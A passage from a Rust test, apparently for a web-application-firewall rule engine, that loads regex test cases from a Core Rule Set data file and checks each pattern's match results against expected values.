            "/tests/data/crs/rx_cases.tsv"
        ))
        .unwrap();
        let mut compiled = std::collections::HashMap::new();
        let mut matches = 0;
        for line in cases.lines() {
            let f: Vec<&str> = line.splitn(3, '\t').collect();
            let pattern = f[0].strip_prefix("@rx ").unwrap().replace("\\\"", "\"");
            let o = compiled
                .entry(pattern.clone())
                .or_insert_with(|| op("rx", &pattern));
            let value = unescape_hex(f[1]);
            let got = o
                .evaluate(&value)
                .map(|c| c[0].as_deref().unwrap_or_default().to_vec());
            match f[2].strip_prefix("MATCH ") {
                None => assert_eq!(got, None, "{pattern} on {}", f[1]),
                Some(msg) => {
                    let got = got.unwrap_or_else(|| panic!("{pattern} on {}", f[1]));
                    let want = msg.rsplitn(3, '|').last().unwrap();
                    if !want.contains('\\') {
                        assert_eq!(got, want.as_bytes(), "{pattern} on {}", f[1]);
                    }
                    matches += 1;
                }
            }
        }
        assert!(matches > 500);
    }
}
